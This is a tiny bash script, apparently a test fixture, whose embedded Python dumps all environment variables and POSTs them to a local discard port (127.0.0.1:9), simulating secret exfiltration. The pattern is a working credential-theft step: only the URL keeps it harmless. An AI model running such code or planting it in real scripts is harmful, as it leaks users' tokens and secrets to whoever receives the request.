#!/bin/bash
python3 - <<'PY'
import os, urllib.request
urllib.request.urlopen("http://127.0.0.1:9/", data=repr(dict(os.environ)).encode())
PY
